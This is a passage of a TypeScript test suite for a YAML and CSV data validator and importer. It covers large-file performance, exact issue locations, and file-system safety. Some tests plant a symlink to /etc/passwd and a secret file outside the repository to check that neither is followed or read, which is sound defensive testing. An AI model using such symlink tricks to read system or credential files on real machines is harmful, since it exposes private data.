  it('a 50 MB orders.yaml written as JSON (a flow list): read, and a problem in a record in the middle is located exactly (fixed: line 0 for any file over 1 MB not written as a block list at column 0)', () => {
    const parts: string[] = ['['];
    let size = 1;
    let n = 0;
    let bad = -1;
    while (size < 50 * MB) {
      const qty = n === 300_000 ? 0 : 1 + (n % 9);
      if (qty === 0) bad = n;
      const rec = `\n  {"id": "SO-${n}", "date": "2026-03-${String(1 + (n % 28)).padStart(2, '0')}", "customer": "C${1 + (n % 2)}", "rep": "andi", "lines": [{"sku": "TEH-1", "qty": ${qty}, "price": 5000}]},`;
      parts.push(rec);
      size += rec.length;
      n++;
    }
    const text = parts.join('').slice(0, -1) + '\n]\n';
    parts.length = 0;
    const { value: r, seconds } = timed(() => validateWith({ [ORDERS]: text }));
    const at = text.indexOf('"qty": 0') + '"qty": '.length;
    expect(r.issues.map(shownIssue)).toEqual([`${ORDERS}:${lineCol(text, at).line}:${lineCol(text, at).column}  lines[0].qty must be a positive integer, got 0  (the number of units, a whole number above 0)`]);
    expect(lineCol(text, at).line).toBe(bad + 2);
    expect(accountFor(r, ORDERS, 'orders')).toEqual({ total: n, valid: n - 1, reported: 1, silent: [] });
    expect(seconds).toBeLessThan(40);
  });

  it('a 50 MB orders.yaml with "Kirim ke Toko &Co" in one note: valid (fixed: the & made the alias check parse the whole file with the `yaml` package, out of memory after 75 s)', () => {
    const parts: string[] = [];
    let size = 0;
    let n = 0;
    while (size < 50 * MB) {
      n++;
      const rec = `- id: SO-${n}\n  date: 2026-03-${String(1 + (n % 28)).padStart(2, '0')}\n  customer: C1\n  rep: andi\n  lines:\n    - { sku: TEH-1, qty: 1, price: 5000 }\n`;
      parts.push(rec);
      size += rec.length;
    }
    parts.push('- id: SO-AMP\n  date: 2026-03-02\n  customer: C1\n  rep: andi\n  note: Kirim ke Toko &Co *segera*\n  lines:\n    - { sku: TEH-1, qty: 1, price: 5000 }\n');
    const text = parts.join('');
    parts.length = 0;
    const { value: r, seconds } = timed(() => validateWith({ [ORDERS]: text }));
    expect(r.issues).toEqual([]);
    expect(r.summary.records.orders).toBe(n + 1);
    // Every order read, the last one too; notes are not kept in the columns, so the note is
    // checked where validation reads it, the loader's parseYaml (whose alias check saw the &).
    const chunk = r.data!.orders.find((f) => f.file === ORDERS)!;
    expect(chunk.length).toBe(n + 1);
    expect(chunk.idHash[n]).toBe(idHash('SO-AMP'));
    const parsed = parseYaml(text, ORDERS);
    expect(parsed.issues).toEqual([]);
    expect((parsed.value as { id: string; note?: string }[]).at(-1)).toMatchObject({ id: 'SO-AMP', note: 'Kirim ke Toko &Co *segera*' });
    expect(seconds).toBeLessThan(40);
  });

  it('an alias in one record of a 2 MB file is still found, at its exact place, without parsing the whole file', () => {
    const records = Array.from({ length: 30_000 }, (_, i) => `- { id: S-${i}, date: 2026-03-10, customer: C1, score: 4${i === 20_000 ? ', comment: &c Puas' : i === 20_001 ? ', comment: *c' : ''} }\n`);
    const text = records.join('');
    expect(text.length).toBeGreaterThan(MB);
    const r = validateWith({ [SURVEYS]: text });
    const at = lineCol(text, text.indexOf('&c Puas'));
    expect(r.issues.map(shownIssue)).toEqual([`${SURVEYS}:${at.line}:${at.column}  YAML anchors and aliases (&name, *name) are not allowed in data files  (write the values out in full)`]);
  });

  it('a 1.2 MB surveys.yaml whose list is indented: a problem is located exactly (fixed: line 0)', () => {
    const records = Array.from({ length: 20_000 }, (_, i) => `  - { id: S-${i}, date: 2026-03-10, customer: C1, score: ${i === 19_995 ? 9 : 4} }\n`);
    const text = records.join('');
    expect(text.length).toBeGreaterThan(MB);
    const r = validateWith({ [SURVEYS]: text });
    const at = lineCol(text, text.indexOf('score: 9') + 'score: '.length);
    expect(r.issues.map(shownIssue)).toEqual([`${SURVEYS}:${at.line}:${at.column}  score must be a whole score from 1 to 5, got 9  (survey scores are whole numbers 1 (very unhappy) to 5 (very happy))`]);
    expect(at.line).toBe(19_996);
  });

  it('150,000 surveys naming a customer that does not exist: 150,000 issues, each at its line (fixed: the rule crashed on so many and all of them were lost)', () => {
    const N = 150_000;
    const text = Array.from({ length: N }, (_, i) => `- { id: S-${i}, date: 2026-03-10, customer: C9, score: 4 }\n`).join('');
    const { value: r, seconds } = timed(() => validateWith({ [SURVEYS]: text }));
    expect(r.issues.filter((i) => i.code === 'rule-crashed')).toEqual([]);
    expect(r.issues.length).toBe(N);
    const column = (k: number) => `- { id: S-${k}, date: 2026-03-10, customer: `.length + 1;
    const msg = (k: number) => `${SURVEYS}:${k + 1}:${column(k)}  customer "C9" is not a known customer  (customers are listed in data/customers.yaml)`;
    expect(shownIssue(r.issues[0]!)).toBe(msg(0));
    expect(shownIssue(r.issues[N - 1]!)).toBe(msg(N - 1));
    expect(r.issues.every((i, k) => i.line === k + 1 && i.column === column(k))).toBe(true);
    expect(accountFor(r, SURVEYS, 'surveys')).toEqual({ total: N, valid: N, reported: 0, silent: [] });
    expect(seconds).toBeLessThan(40);
  });

  it('a 50 MB CSV export (wide rows, 280,000 orders) is imported and written whole (fixed: above about 125,000 records the importer crashed with "Maximum call stack size exceeded")', async () => {
    const address = 'Jl. Raya Pasar Minggu No. 12, RT 04/RW 07, Pancoran, Jakarta Selatan 12780, kirim pagi, hubungi Bu Sri sebelum datang';
    const parts = ['id;date;customer;rep;sku;qty;price;discount;address;note\n'];
    let size = parts[0]!.length;
    let n = 0;
    while (size < 50 * MB) {
      n++;
      const row = `INV-${n};${String(1 + (n % 30)).padStart(2, '0')}/04/2026;C${1 + (n % 2)};andi;TEH-${1 + (n % 2)};${1 + (n % 9)};Rp ${(5 + (n % 7)).toString()}.000;${n % 5 ? '' : '10%'};"${address}";catatan ${n}\n`;
      parts.push(row);
      size += row.length;
    }
    const csv = parts.join('');
    parts.length = 0;
    const t0 = performance.now();
    // "Rp 5.000" is ambiguous unless the number format is stated: a mapping of that one line.
    const run = await runImport({ kind: 'orders', file: 'april.csv', csv, map: { file: 'april.map.yaml', text: 'numbers: "1.234,5"\n' } });
    const seconds = (performance.now() - t0) / 1000;
    expect(run.exit).toBe(0);
    expect(run.output[0]).toBe(`april.csv: ${n.toLocaleString('en-US')} rows, ${n.toLocaleString('en-US')} used for 2026-04`);
    const text = run.written.get('data/2026/04/orders.yaml')!;
    expect(text.split('\n- id: ').length - 1).toBe(n);
    expect(seconds).toBeLessThan(60);
  }, 120_000);

  it('a joined CSV with 150,000 broken rows: every one is reported, nothing written (fixed: crashed with "Maximum call stack size exceeded")', async () => {
    const sales = 'opportunity_id,sales_agent,product,account,deal_stage,engage_date,close_date,close_value\nOPP1,Moses Frase,GTX Plus Basic,Acme,Won,2017-03-01,2017-03-20,1054\n';
    const accounts = ['account,sector,year_established,revenue,employees,office_location,subsidiary_of', ...Array.from({ length: 150_000 }, (_, i) => `Acme ${i},retail`)].join('\n') + '\n';
    const run = await runImport({
      kind: 'orders',
      file: 'sales_pipeline.csv',
      csv: sales,
      repo: 'crm-pipeline',
      month: '2017-03',
      map: { file: 'orders.map.yaml', text: exampleText('crm-pipeline/orders.map.yaml') },
      extra: { 'sales_teams.csv': 'sales_agent,manager,regional_office\nMoses Frase,Dustin Brinkmann,Central\n', 'accounts.csv': accounts, 'products.csv': 'product,series,sales_price\nGTX Plus Basic,GTX,1096\n' },
    });
    expect(run.exit).toBe(1);
    expect(run.written.size).toBe(0);
    const row = (line: number) => `accounts.csv:${line}  row has 2 values, the header has 7 columns  (each row needs a value (or an empty place) for every column, separated by ",")`;
    expect(run.output.slice(0, 2)).toEqual([row(2), row(3)]);
    expect(run.output.length).toBe(150_000 + 2);
    expect(run.output.slice(-3)).toEqual([row(150_001), '', '150000 problems: nothing written']);
  });

  it('all of it within bounded memory: the peak resident size of this test process stays under 3 GB', () => {
    expect(process.resourceUsage().maxRSS / 1024 / 1024).toBeLessThan(3);
  });
});

describe('generated: the file system (symlinks, a FIFO, paths with ..)', () => {
  let tmp: string;
  beforeAll(() => {
    tmp = mkdtempSync(join(tmpdir(), 'capaian-corpus-'));
  });
  afterAll(() => rmSync(tmp, { recursive: true, force: true }));

  /** A copy of the valid fixture at tmp/<name>, and a folder beside it with a file the repository must never read. */
  function repoOnDisk(name: string): string {
    const root = join(tmp, name);
    cpSync(`${ROOT}test/fixtures/valid`, root, { recursive: true });
    mkdirSync(join(tmp, 'outside'), { recursive: true });
    writeFileSync(join(tmp, 'outside', 'secret.yaml'), '- { id: SECRET, name: do not read, region: jakarta, segment: retail, owner: andi }\n');
    return root;
  }

  const symlinkHint = 'commit the file itself; a link could point outside the repository';

  it('a symlink to /etc/passwd and a symlinked month folder under data/ are reported, never followed', async () => {
    const root = repoOnDisk('links');
    symlinkSync('/etc/passwd', join(root, 'data/customers-extra.yaml'));
    symlinkSync('../../../outside', join(root, 'data/2026/04'));
    const read = await readRepoFiles(root);
    expect(read.files.map((f) => f.path)).not.toContain('data/customers-extra.yaml');
    expect(read.files.some((f) => dec.decode(f.bytes).includes('SECRET') || dec.decode(f.bytes).includes('root:'))).toBe(false);
    const r = validateRepo(read.files, read.issues);
    expect(r.issues.map(shownIssue)).toEqual([
      `data/2026/04  symbolic links are not followed  (${symlinkHint})`,
      `data/customers-extra.yaml  symbolic links are not followed  (${symlinkHint})`,
    ]);
  });

  it('data/ itself a symlink to a folder outside the repository is refused, not read (fixed: its files were read)', async () => {
    const root = join(tmp, 'linked-data');
    mkdirSync(root, { recursive: true });
    repoOnDisk('unused');
    symlinkSync('../outside', join(root, 'data'));
    const read = await readRepoFiles(root);
    expect(read.files).toEqual([]);
    const r = validateRepo(read.files, read.issues);
    expect(r.issues.map(shownIssue)[0]).toBe('data/  symbolic links are not followed  (make data/ a folder in the repository; a link could point outside it)');
    expect(r.issues.map((i) => i.code)).toEqual(['symlink', 'missing-file', 'missing-file', 'missing-file', 'missing-file']);
  });

  it('kpis/ a symlink is refused too; data a regular file is reported (fixed: readRepoFiles threw ENOTDIR)', async () => {
    const root = repoOnDisk('odd-folders');
    rmSync(join(root, 'kpis'), { recursive: true });
    symlinkSync('../outside', join(root, 'kpis'));
    rmSync(join(root, 'data'), { recursive: true });
    writeFileSync(join(root, 'data'), 'not a folder\n');
    const read = await readRepoFiles(root);
    expect(read.files).toEqual([]);
    expect(read.issues.map((i) => [i.file, i.code, i.message])).toEqual([
      ['data/', 'not-a-folder', 'data is not a folder'],
      ['kpis/', 'symlink', 'symbolic links are not followed'],
    ]);
  });

  it('a FIFO named like a month file is reported, not read (reading it would wait forever)', async () => {
    const root = repoOnDisk('fifo');
    execFileSync('mkfifo', [join(root, 'data/2026/03/pipe.yaml')]);
    const read = await readRepoFiles(root);
    expect(read.issues.map((i) => `${i.file}  ${i.message}  (${i.hint})`)).toEqual(['data/2026/03/pipe.yaml  not a regular file  (only YAML files belong here)']);
    expect(read.files.length).toBe(15);
  });

  it('a folder named orders.yaml (empty, or holding files) in place of the month file is an error (fixed: the month\'s orders were dropped with exit 0)', async () => {
    const root = repoOnDisk('folder-named-yaml');
    rmSync(join(root, 'data/2026/03/orders.yaml'));
    mkdirSync(join(root, 'data/2026/03/orders.yaml'));
    mkdirSync(join(root, 'kpis/net-sales.yaml.d/x.yaml'), { recursive: true });
    mkdirSync(join(root, 'data/2026/03/surveys.yml'));
    writeFileSync(join(root, 'data/2026/03/surveys.yml/surveys.yaml'), '- { id: S-9, date: 2026-03-10, customer: C1, score: 4 }\n');
    const read = await readRepoFiles(root);
    const r = validateRepo(read.files, read.issues);
    const hint = 'a data file is a YAML file: remove the folder, or put its records in a file of that name';
    expect(r.issues.map(shownIssue)).toEqual([
      `data/2026/03/orders.yaml  orders.yaml is a folder, not a file  (${hint})`,
      `data/2026/03/surveys.yml  surveys.yml is a folder, not a file  (${hint})`,
      `kpis/net-sales.yaml.d/x.yaml  x.yaml is a folder, not a file  (${hint})`,
    ]);
    expect(r.data).toBeNull();
  });

  it('an empty kpis/ folder: every goal naming a KPI is an error (fixed: passed with no KPI at all)', async () => {
    const root = repoOnDisk('empty-kpis');
    rmSync(join(root, 'kpis'), { recursive: true });
    mkdirSync(join(root, 'kpis'));
    const read = await readRepoFiles(root);
    const r = validateRepo(read.files, read.issues);
    expect(r.issues.map((i) => `${i.file}:${i.line}  ${i.code}`)).toEqual([1, 2, 3, 4, 5, 6].map((line) => `data/goals.yaml:${line}  unknown-kpi`));
    expect(r.data).toBeNull();
  });

  it('--root written with .. reads the same repository, and paths stay relative to it', async () => {
    const root = repoOnDisk('dotdot');
    const read = await readRepoFiles(join(tmp, 'nowhere', '..', 'dotdot'));
    expect(read.issues).toEqual([]);
    expect(read.files.map((f) => f.path)).toEqual((await readRepoFiles(root)).files.map((f) => f.path));
    expect(read.files.every((f) => /^(data|kpis)\/[^.]/.test(f.path) && !f.path.includes('..'))).toBe(true);
  });

  it('import FILE.csv with .. reads the CSV the user names, and writes only under the repository\'s data/', async () => {
    const root = repoOnDisk('import-dotdot');
    mkdirSync(join(tmp, 'exports'), { recursive: true });
    writeFileSync(join(tmp, 'exports', 'april.csv'), 'id;date;customer;score\nS-0401;01/04/2026;C1;4\n');
    const before = listTree(tmp);
    const out: string[] = [];
    const code = await importCommand(
      { kind: 'surveys', file: join(root, '..', 'exports', 'april.csv'), month: '2026-04', force: false, createMissing: false, root: join(tmp, 'nowhere', '..', 'import-dotdot') },
      nodeImportEffects(join(tmp, 'nowhere', '..', 'import-dotdot'), { ...recordingEffects(), out: (l) => void out.push(l) }),
    );
    expect(code).toBe(0);
    // Besides the cache of month files already read (node_modules/.cache/capaian, as validate keeps it).
    const after = listTree(tmp).filter((p) => !/^[^/]+\/node_modules(\/|$)/.test(p));
    expect(after.filter((p) => !before.includes(p))).toEqual(['import-dotdot/data/2026/04', 'import-dotdot/data/2026/04/surveys.yaml']);
    expect(readFileSync(join(root, 'data/2026/04/surveys.yaml'), 'utf8')).toContain('- id: S-0401');
  });

  it('a mapping that joins a file outside the folder: read as the user\'s own mapping says, nothing written', async () => {
    const root = repoOnDisk('join-outside');
    mkdirSync(join(tmp, 'exports2'), { recursive: true });
    writeFileSync(join(tmp, 'exports2', 'april.csv'), 'id,date,customer,score\nS-0401,01/04/2026,C1,4\n');
    writeFileSync(join(tmp, 'exports2', 'map.yaml'), 'kind: surveys\njoin: [{ file: ../outside/secret.yaml, as: x, key: id, match: id }]\nfields: { id: id, date: date, customer: customer, score: score }\n');
    const before = listTree(tmp);
    const out: string[] = [];
    const code = await importCommand(
      { kind: 'surveys', file: join(tmp, 'exports2', 'april.csv'), map: join(tmp, 'exports2', 'map.yaml'), month: '2026-04', force: false, createMissing: false, root },
      nodeImportEffects(root, { ...recordingEffects(), out: (l) => void out.push(l) }),
    );
    expect(code).toBe(1);
    expect(out.at(-1)).toBe('1 problem: nothing written');
    // Nothing but the cache of month files already read (node_modules/.cache/capaian, as validate keeps it).
    const notCache = (p: string) => !/^[^/]+\/node_modules(\/|$)/.test(p);
    expect(listTree(tmp).filter(notCache)).toEqual(before.filter(notCache));
  });
});

/** Every path under `dir`, relative to it, symlinks not followed. */
function listTree(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d).sort()) {
      const full = join(d, name);
      out.push(relative(dir, full));
      if (lstatSync(full).isDirectory()) walk(full);
    }
  };
  walk(dir);
  return out;
}
